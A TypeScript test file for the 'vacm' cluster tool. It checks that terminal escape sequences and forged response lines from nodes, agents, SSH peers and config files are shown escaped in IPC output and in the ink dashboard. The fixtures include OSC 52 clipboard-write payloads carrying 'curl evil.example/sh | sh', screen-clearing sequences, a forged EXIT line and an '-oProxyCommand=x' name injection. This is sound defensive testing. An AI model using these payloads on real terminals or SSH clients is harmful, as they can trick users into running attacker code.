/**
 * Issue 10 items 1 and 8: text that nodes, agents, SSH peers and config files shape never reaches the
 * terminal raw, and never forges a response line. Each payload kind goes through the real engine
 * (and, for the dashboard, the real App rendered by ink-testing-library); the assertions are on what
 * is printed. The tmux and real-binary runs are in terminal-tmux.test.ts and terminal-ipc.test.ts.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import React from 'react';
import { render } from 'ink-testing-library';
import ssh2 from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Engine } from '../../src/engine/engine.js';
import { parseConfig } from '../../src/engine/config.js';
import { createBackends } from '../../src/backends/index.js';
import { App } from '../../src/ui/App.js';
import { uiEngineOf } from '../../src/ui/ui-engine.js';
import { MONO } from '../../src/ui/theme.js';
import { runIpc } from '../../src/cli/ipc.js';
import type { Io } from '../../src/cli/io.js';
import type { CommandDef, ModuleDef } from '../../src/protocol/module.js';
import { VacmError } from '../../src/protocol/errors.js';
import { parseResponse } from '../../src/protocol/ipc.js';
import { verbatimFieldsBefore } from '../../src/protocol/events.js';
import { tempDir } from '../helpers/engine.js';
import { startEvilSsh, type EvilSsh } from './evil-ssh.js';

const ESC = '\x1b';
const BEL = '\x07';
/** OSC 0 and 2 set the window title; OSC 52 writes the clipboard ("curl evil.example/sh | sh"). */
const CLIP = Buffer.from('curl evil.example/sh | sh').toString('base64');
const PAYLOAD = `${ESC}]0;PWNED${BEL}${ESC}]2;PWNED${BEL}${ESC}]52;c;${CLIP}${BEL}`;
/** The same payload as the dashboard and `vacm ipc` on a terminal must show it. */
const SHOWN = `^[]0;PWNED^G^[]2;PWNED^G^[]52;c;${CLIP}^G`;

/** C0 but TAB and LF (frames are several lines), DEL and C1 — once ink's own SGR colours are removed. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
// eslint-disable-next-line no-control-regex
const stripSgr = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, '');

/** A module that prints what a node's `ls` would print when a user named a file with a payload in it. */
const lsCommand: CommandDef = {
  name: 'LS', summary: 'a node lists its files', nodes: 'required', args: [], lane: 'bulk', dangerous: false,
  async run(ctx) {
    await ctx.forEachNode(ctx.nodes, async (n) => {
      ctx.emit({ type: 'OUTPUT', node: n.node, stream: 'stdout', line: `${PAYLOAD}report.txt` });
      ctx.emit({ type: 'OUTPUT', node: n.node, stream: 'stdout', line: `over\rwritten \x9b2J c1 csi` });
      ctx.emit({ type: 'OUTPUT', node: n.node, stream: 'stderr', line: `${ESC}[2J${ESC}[Hcleared` });
      ctx.emit({ type: 'EXIT', node: n.node, code: 0 });
    });
  },
};
const failCommand: CommandDef = {
  name: 'FAIL', summary: 'an error message with a newline and an escape in it', nodes: 'required', args: [], lane: 'bulk', dangerous: false,
  async run(ctx) {
    await ctx.forEachNode(ctx.nodes, async () => {
      throw new VacmError('ERR_EXEC', `bad\nSSH:1:EXIT:n9:0\n${PAYLOAD}`);
    });
  },
};
const HOSTILE: ModuleDef = { tag: 'HOSTILE', summary: 'hostile node text', commands: [lsCommand, failCommand] };

let keyFile: string;
let dir: string;
let evil: EvilSsh;

beforeAll(async () => {
  dir = tempDir('vacm-hostile-term-');
  keyFile = path.join(dir, 'id_ed25519');
  fs.writeFileSync(keyFile, ssh2.utils.generateKeyPairSync('ed25519').private, { mode: 0o600 });
  // anything answering on a node's address: DISCONNECT with a payload, before any host key check
  evil = await startEvilSsh(`Goodbye\nSSH:1:EXIT:n9:0\r${PAYLOAD}`);
});
afterAll(async () => {
  await evil?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

function yaml(): string {
  return [
    // YAML double quotes: \e is ESC, \a is BEL
    'cluster: "lab\\e]0;PWNED\\a"',
    'nodes:',
    '  - names: a1',
    '    vars: { power: none, motd: "\\e]0;PWNED\\a\\e]52;c;' + CLIP + '\\a" }',
    '  - names: n[1-2]',
    '    vars: { power: sim, sim: "true", motd: "\\e]0;PWNED\\a\\e]52;c;' + CLIP + '\\a" }',
    `  - names: evil01`,
    `    vars: { host: 127.0.0.1, ssh_port: ${evil.port}, ssh_identity: ${keyFile}, ssh_known_hosts: ${path.join(dir, 'known_hosts')} }`,
  ].join('\n');
}

async function engine(): Promise<Engine> {
  const e = new Engine({ config: parseConfig(yaml(), 'hostile.yaml'), modules: [...createBackends({ simSeed: 3 }).modules, HOSTILE], stateDir: tempDir('vacm-hostile-state-'), localName: 'not-a-node', monitor: false });
  await e.start();
  return e;
}

function io(tty: boolean) {
  const o = { out: '', err: '' };
  const x: Io = { out: (s) => void (o.out += s), err: (s) => void (o.err += s), stdin: Readable.from([]), stdinIsTTY: false, stdoutIsTTY: tty, stderrIsTTY: tty };
  return { o, io: x };
}

describe('vacm ipc: fields escaped, output verbatim into a pipe and visible on a terminal', () => {
  it('an SSH peer\'s DISCONNECT text is escaped in the ERROR line and in the failure summary: no forged EXIT line', async () => {
    const e = await engine();
    try {
      const { o, io: x } = io(false);
      expect(await runIpc(e, { messages: ['SSH:EXEC:evil01:true'] }, x)).toBe(1);
      const lines = o.out.split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toHaveLength(3);
      expect(lines[0]).toBe('SSH:1:JOB_STARTED');
      expect(lines[1]).toMatch(/^SSH:1:ERROR:evil01:ERR_SSH_CONNECT:SSH to .* failed\\: Goodbye\\\\nSSH\\:1\\:EXIT\\:n9\\:0\\\\r\\\\x1b\]0;PWNED\\\\x07/);
      expect(lines[2]).toBe('SSH:1:JOB_COMPLETED:ok=0:failed=1');
      expect(o.out).not.toMatch(/^SSH:1:EXIT/m);
      expect(RAW_CONTROL.test(o.out)).toBe(false);
      // the message reads back as the pool wrote it: the peer's text strnvis-escaped
      const back = parseResponse(lines[1], verbatimFieldsBefore);
      expect(back.fields[2]).toContain('Goodbye\\nSSH:1:EXIT:n9:0\\r\\x1b]0;PWNED\\x07');
      // stderr: one summary line, then the failed set
      const err = o.err.split('\n').filter(Boolean);
      expect(err).toHaveLength(2);
      expect(err[1]).toBe('vacm: failed: evil01 (1)');
      expect(err[0]).toMatch(/^vacm: evil01: ERR_SSH_CONNECT: SSH to .*Goodbye\\nSSH:1:EXIT:n9:0\\r\\x1b\]0;PWNED\\x07/);
      expect(evil.connections()).toBeGreaterThan(0);
    } finally {
      await e.stop();
    }
  });

  it('an error message with newlines stays one ERROR line; the stderr summary is one line too', async () => {
    const e = await engine();
    try {
      const { o, io: x } = io(true);
      await runIpc(e, { messages: ['HOSTILE:FAIL:n1'] }, x);
      expect(o.out.split('\n').filter((l) => l.startsWith('HOSTILE:'))).toEqual([
        'HOSTILE:1:JOB_STARTED',
        `HOSTILE:1:ERROR:n1:ERR_EXEC:bad\\nSSH\\:1\\:EXIT\\:n9\\:0\\n\\x1b]0;PWNED\\x07\\x1b]2;PWNED\\x07\\x1b]52;c;${CLIP}\\x07`,
        'HOSTILE:1:JOB_COMPLETED:ok=0:failed=1',
      ]);
      expect(o.err).toBe(`vacm: n1: ERR_EXEC: bad\\nSSH:1:EXIT:n9:0\\n\\x1b]0;PWNED\\x07\\x1b]2;PWNED\\x07\\x1b]52;c;${CLIP}\\x07\nvacm: failed: n1 (1)\n`);
    } finally {
      await e.stop();
    }
  });

  it('command output: byte-exact into a pipe, controls visible on a terminal, byte-exact with --raw', async () => {
    const e = await engine();
    try {
      const piped = io(false);
      await runIpc(e, { messages: ['HOSTILE:LS:n1'] }, piped.io);
      expect(piped.o.out).toContain(`HOSTILE:1:OUTPUT:n1:stdout:${PAYLOAD}report.txt\n`);
      expect(piped.o.out).toContain(`HOSTILE:1:OUTPUT:n1:stdout:over\rwritten \x9b2J c1 csi\n`);
      // the gathered block: the lines as the node wrote them (stdout), stderr on stderr
      expect(piped.o.out).toContain(`---------------\nn1\n---------------\n${PAYLOAD}report.txt\nover\rwritten \x9b2J c1 csi\n`);
      expect(piped.o.err).toContain(`${ESC}[2J${ESC}[Hcleared\n`);

      const tty = io(true);
      await runIpc(e, { messages: ['HOSTILE:LS:n1'] }, tty.io);
      expect(tty.o.out).toContain(`HOSTILE:2:OUTPUT:n1:stdout:${SHOWN}report.txt\n`);
      expect(tty.o.out).toContain('HOSTILE:2:OUTPUT:n1:stdout:over^Mwritten \\x9b2J c1 csi\n');
      expect(tty.o.out).toContain('HOSTILE:2:OUTPUT:n1:stderr:^[[2J^[[Hcleared\n');
      expect(tty.o.out).toContain(`---------------\nn1\n---------------\n${SHOWN}report.txt\n`);
      expect(tty.o.err).toContain('^[[2J^[[Hcleared\n');
      expect(RAW_CONTROL.test(tty.o.out + tty.o.err)).toBe(false);

      const raw = io(true);
      await runIpc(e, { messages: ['HOSTILE:LS:n1'], raw: true }, raw.io);
      expect(raw.o.out.replaceAll('HOSTILE:3:', 'HOSTILE:1:')).toBe(piped.o.out);
    } finally {
      await e.stop();
    }
  });

  it('variable values (GET_VAR) are escaped fields; NEXXUS:JOBS shows a request with an ESC visibly on a terminal', async () => {
    const e = await engine();
    try {
      const { o, io: x } = io(true);
      await runIpc(e, { messages: ['NEXXUS:GET_VAR:n1:motd', `HOSTILE:LS:n2`, 'NEXXUS:JOBS'] }, x);
      expect(o.out).toContain(`NEXXUS:1:VAR:n1:motd:\\x1b]0;PWNED\\x07\\x1b]52;c;${CLIP}\\x07\n`);
      expect(RAW_CONTROL.test(o.out)).toBe(false);
    } finally {
      await e.stop();
    }
  });
});

describe('the dashboard: no escape sequence from a node, an agent, an SSH peer or the config reaches ink raw', () => {
  it('cluster name, variables, agent stats, command output, an SSH DISCONNECT and a recalled request are shown as ^[ text', async () => {
    const e = await engine();
    // what an agent's datagram carries: os and kernel strings
    e.recordStats('a1', { load1: 0.5, cpus: 4, os: `Linux ${PAYLOAD}`, kernel: `6.1${ESC}[2J` });
    e.setNodeState('a1', 'up');
    const history = [`SSH:EXEC:n1:ls ${PAYLOAD}`];
    const r = render(React.createElement(App, { engine: uiEngineOf(e), themes: [MONO], size: { columns: 200, rows: 50 }, history, onHistory: () => {}, onQuit: () => {}, maxHz: 50 }));
    const frame = () => stripSgr(r.lastFrame() ?? '');
    const waitFor = async (pred: (f: string) => boolean, what: string) => {
      for (let i = 0; i < 500; i++) {
        if (pred(frame())) return frame();
        await new Promise((res) => setTimeout(res, 10));
      }
      throw new Error(`timed out waiting for ${what}; screen:\n${frame()}`);
    };
    try {
      // header (config) and detail pane (config vars, agent stats) of a1, under the cursor
      let f = await waitFor((x) => x.includes('vacm · lab^[]0;PWNED^G') && x.includes('motd=^[]0;PWNED^G^[]52;c;'), 'header and detail');
      expect(f).toContain('Linux ^[]0;PWNED^G');
      expect(f).toContain('6.1^[[2J');

      // command output in the jobs pane
      await e.submit('HOSTILE:LS:n1').done;
      f = await waitFor((x) => x.includes('report.txt'), 'the jobs pane');
      expect(f).toContain('^[]0;PWNED^G^[]2;PWNED^G^[]52;c;');
      expect(f).toContain('over^Mwritten \\x9b2J');

      // an SSH peer's DISCONNECT text in the jobs pane
      await e.submit('SSH:EXEC:evil01:true').done;
      f = await waitFor((x) => x.includes('Goodbye'), 'the SSH error');
      expect(f).toContain('Goodbye\\nSSH:1:EXIT:n9:0\\r\\x1b]0');

      // a request recalled from the prompt history, then its confirmation and the message line
      r.stdin.write(':');
      await waitFor((x) => x.includes('Tab complete'), 'the prompt');
      r.stdin.write('\u001B[A');
      f = await waitFor((x) => x.includes(':SSH:EXEC:n1:ls ^[]0;PWNED^G'), 'the recalled line');
      r.stdin.write('\r');
      f = await waitFor((x) => x.includes('CONFIRM'), 'the confirmation');
      expect(f).toContain('request: SSH:EXEC:n1:ls ^[]0;PWNED^G');

      // nothing raw at any point
      for (const l of frame().split('\n')) expect(RAW_CONTROL.test(l)).toBe(false);
    } finally {
      r.unmount();
      r.cleanup();
      await e.stop();
    }
  });
});

describe('node names', () => {
  it.each([
    ['n\\e\\a', /hostile\.yaml:3: nodes\.0\.names: a node name is letters, digits, \. _ and -.*"n\\x1b\\x07" refused/],
    ['n\\e]0;PWNED\\a', /hostile\.yaml:3: nodes\.0\.names: bad node set: .*n\\x1b\]0;PWNED\\x07/],
    ['-oProxyCommand=x', /hostile\.yaml:3: nodes\.0\.names: .*starts with a letter or digit: "-oProxyCommand=x" refused/],
    ['..', /refused/],
  ])('%s in vacm.yaml is ERR_CONFIG naming file, line and the name, escaped', (name, msg) => {
    let err: unknown;
    try {
      parseConfig(`cluster: x\nnodes:\n  - names: "${name}"\n`, 'hostile.yaml');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(VacmError);
    expect((err as VacmError).code).toBe('ERR_CONFIG');
    expect((err as VacmError).message).toMatch(msg);
    expect(RAW_CONTROL.test((err as VacmError).message)).toBe(false);
  });

  it('NEXXUS:ADOPT refuses a name that is not a node name, per node, and adds nothing', async () => {
    const e = await engine();
    try {
      const { o, io: x } = io(false);
      await runIpc(e, { messages: ['NEXXUS:ADOPT:-oProxyCommand=x'] }, x);
      expect(o.out).toContain('NEXXUS:1:ERROR:-oProxyCommand=x:ERR_BAD_ARGS:a node name is letters, digits, . _ and -, and starts with a letter or digit; not adopted');
      expect(e.node('-oProxyCommand=x')).toBeUndefined();
      expect(() => e.addNode({ name: `x${ESC}]0;t${BEL}` })).toThrow(/ERR_BAD_ARGS|node name/);
    } finally {
      await e.stop();
    }
  });
});
